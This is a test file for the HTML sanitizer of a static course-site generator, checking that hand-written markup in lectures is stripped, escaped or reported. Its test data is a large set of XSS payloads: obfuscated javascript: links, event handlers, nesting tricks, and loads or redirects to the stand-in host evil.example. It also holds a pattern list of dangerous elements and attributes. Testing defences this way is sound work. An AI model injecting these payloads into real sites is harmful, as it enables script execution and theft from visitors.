import { parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { renderPage } from '../../../layouts/render-page.tsx';
import { buildCatalogue } from '../../../src/catalogue/build-catalogue.ts';
import { reservedIds } from '../../../src/identity/reserved-ids.ts';
import { buildPages } from '../../../src/pages/build-pages.ts';
import { buildSite } from '../../../src/pages/build-site.ts';
import { pageIds } from '../../../src/pages/page-ids.ts';
import { noAssets } from '../../../src/pages/site.ts';
import { parsePost } from '../../../src/site/read/read-course.ts';
import { parseSettings } from '../../../src/source/settings.ts';

type Node = {
  readonly nodeName: string;
  readonly attrs?: readonly { readonly name: string; readonly value: string }[];
  readonly childNodes?: readonly Node[];
};

/** What readers get of some lines of a lecture, as a browser reads it, and what its author is told. */
function show(body: string) {
  const { settings } = parseSettings('title: Course');
  const read = parsePost('lectures/x.md', `---\ntitle: T\n---\n${body}\n`, settings);
  const site = buildSite(settings, noAssets, undefined);
  const pages = buildPages({ catalogue: buildCatalogue([read.lecture]), site, language: 'en' });
  const page = pages.find(({ kind }) => kind === 'lecture');
  const html = page ? renderPage(page) : '';
  const text = html.slice(html.indexOf('<div class="lecture-text">'), html.lastIndexOf('</main>'));
  return { text, page: html, nodes: walk(parseFragment(text) as Node), findings: read.findings };
}

function walk(node: Node): Node[] {
  return [node, ...(node.childNodes ?? []).flatMap(walk)];
}

/** True for an address that only leads somewhere; blanks and control characters are nothing to a browser. */
function leads(address: string, more: readonly string[] = []): boolean {
  const scheme = /^([a-z][a-z0-9+.-]*:)/i.exec(address.replace(/[\p{Cc}\p{Z}]/gu, ''))?.[1];
  return !scheme || ['http:', 'https:', 'mailto:', ...more].includes(scheme.toLowerCase());
}

/** Elements and attributes that could run something, load something, or appear where they should not. */
function findDangers(nodes: readonly Node[]): string[] {
  return nodes.flatMap(({ nodeName, attrs = [] }) => [
    ...(/^(?:script|style|iframe|object|embed|form|input|textarea|select|link|meta|base|svg|math|template|frame|frameset|applet|portal|audio)$/.test(
      nodeName,
    )
      ? [nodeName]
      : []),
    ...attrs.flatMap(({ name, value }) => {
      if (
        /^(?:on.*|style|srcdoc|formaction|action|srcset|background|ping|http-equiv|is|slot|nonce)$/.test(name)
      )
        return [name];
      if (name === 'href' || name === 'poster') return leads(value) ? [] : [value];
      if (name === 'src') return leads(value, nodeName === 'img' ? ['data:'] : []) ? [] : [value];
      return [];
    }),
  ]);
}

describe('hand-written HTML that runs or leaves its place', () => {
  test.each([
    '<script>steal()</script>',
    'a <script>steal()</script> b',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<div onclick="steal()">x</div>',
    '<div\nonclick\n=\nsteal()>x</div>',
    '<img src=x onerror=steal()>',
    '<details open ontoggle=steal()>x</details>',
    '<svg onload=steal()><script>steal()</script></svg>',
    '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
    '<math><mtext><style><img src=x onerror=steal()></style></mtext></math>',
    '<math href="javascript:steal()">x</math>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<iframe src="javascript:steal()"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=q><button formaction="javascript:steal()">x</button></form>',
    '<button formaction="javascript:steal()">x</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>body { display: none }</style>',
    '<p style="position:fixed;inset:0">x</p>',
    '<p style="background:url(https://evil.example/)">x</p>',
    '<textarea><img src=x onerror=steal()></textarea>',
    '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
    '<xmp><img src=x onerror=steal()></xmp>',
    '<template><img src=x onerror=steal()></template>',
    '<a href="javascript:steal()">x</a>',
    '<a href=" JaVaScRiPt:steal()">x</a>',
    '<a href="java\tscript:steal()">x</a>',
    '<a href="&#106;avascript&colon;steal()">x</a>',
    '<a href="&#x6A;&#x61;vascript:steal()">x</a>',
    '<a href="java&Tab;script&NewLine;:steal()">x</a>',
    '<a href="\u0001javascript:steal()">x</a>',
    '<a href="vbscript:steal()">x</a>',
    '<a href="data:text/html,<script>steal()</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://a.b/c">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="javascript:steal()">',
    '<div is="x-steal" slot="y">x</div>',
  ])('%j is removed and reported', (html) => {
    const { nodes, findings } = show(`### X\n\n${html}\n\nAfter it.`);
    expect(findDangers(nodes)).toEqual([]);
    const reported = findings.filter(({ rule }) => rule === 'html/removed' || rule.startsWith('media/'));
    expect(reported.length).toBeGreaterThan(0);
    expect(reported[0]?.line).toBe(6);
  });

  test.each([
    '<script\n>steal()</script\n>',
    'a <b/onmouseover=steal()>x</b>',
    '<img/src=x/onerror=steal()>',
    '<video src="data:text/html,x"></video>',
    '<script>steal()',
    '<style>body { display: none }',
    '<img src=x onerror=steal()',
    '<<script>steal()//<</script',
  ])('%j is text', (html) => {
    const { nodes, text } = show(`### X\n\n${html}\n\nAfter it.`);
    expect(findDangers(nodes)).toEqual([]);
    expect(text).toContain('&lt;');
    expect(text).toContain('After it.');
  });

  test('a video keeps its address and nothing else', () => {
    const { text } = show(
      '<video src="https://a.b/c.mp4" onloadstart=steal() style="position:fixed"></video>',
    );
    expect(text).not.toMatch(/onloadstart|style=/);
  });

  test('the content of a video is cleaned like any other text', () => {
    const { text } = show(
      '<video src="https://a.b/c.mp4">Too old. <a href="https://a.b/c.mp4" onclick=steal()>Get it</a><script>steal()</script></video>',
    );
    expect(text).toContain('Too old. <a href="https://a.b/c.mp4">Get it</a></video>');
    expect(text).not.toContain('steal');
  });

  test.each([
    '[x](javascript:steal())',
    '[x](JaVaScRiPt:steal())',
    '[x](java&#115;cript:steal())',
    '[x](<java\tscript:steal()>)',
    '[x](vbscript:steal())',
    '[x](data:text/html,steal)',
    '![x](javascript:steal())',
    '<javascript:steal()>',
    '[x][y]\n\n[y]: javascript:steal()',
    '**Paper:** [x](javascript:steal())',
    '### [x](javascript:steal())',
  ])('%j leads nowhere', (markdown) => {
    expect(findDangers(show(markdown).nodes)).toEqual([]);
  });

  test.each([
    '*x*{onclick=steal()}',
    '# X {onclick=steal() style="position:fixed"}',
    '[x](https://a.b){href=javascript:steal()}',
    '![x](https://a.b/c.png){onerror=steal()}',
  ])('braces: %s', (markdown) => {
    const { nodes, findings } = show(markdown);
    expect(findDangers(nodes)).toEqual([]);
    expect(findings.map(({ rule, line }) => [rule, line])).toContainEqual(['html/removed', 4]);
  });
});

test('pictures may be in the text itself', () => {
  const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
  const { text, findings } = show(`### X\nA <img src="${pixel}" alt="dot"> and ![dot](${pixel}) in a line.`);
  expect(text.split(pixel)).toHaveLength(3);
  expect(findings).toEqual([]);
});

describe('ids of hand-written HTML', () => {
  test.each([...Object.values(pageIds), ...reservedIds])('%s stays the page’s own', (id) => {
    const { page } = show(
      `### ${id} {#${id}}\n\n<p id="${id}">x</p>\n\n<a name="${id}"></a>\n\nx *y*{#${id}}`,
    );
    expect(page.split(` id="${id}"`).length).toBeLessThanOrEqual(2);
    const ids = [...page.matchAll(/ id="([^"]*)"/g)].map((match) => match[1]);
    expect(new Set(ids).size).toBe(ids.length);
  });

  test('a heading keeps its id, whatever comes before it', () => {
    const { text } = show('<p id="heron">x</p>\n\n<p id="heron">y</p>\n\n## Heron');
    expect(text).toContain('<h2 id="heron">Heron</h2>');
    expect(text).toContain('<p id="heron-1">x</p>');
    expect(text).toContain('<p id="heron-2">y</p>');
  });

  test('an old anchor keeps its place', () => {
    expect(show('## A\n\nSee <a name="top"></a> here.').text).toContain('<a id="top"></a>');
  });

  test('names of the document cannot be taken', () => {
    const { text } = show('<img name="body" src="https://a.b/c.png"> and <form name="cookie">x</form> text');
    expect(text).not.toMatch(/name=/);
  });

  test('an author cannot use classes of the site', () => {
    expect(show('<p class="site-header align-center">x</p>').text).toContain('<p class="align-center">x</p>');
  });
});

test('other forms of a picture leave nothing beside it', () => {
  const { text } = show(
    '<div>x <picture><source srcset="https://a.b/c.webp"><img src="https://a.b/c.png"></picture></div>',
  );
  expect(text).toContain('<img src="https://a.b/c.png"');
  expect(text).not.toContain('source');
});
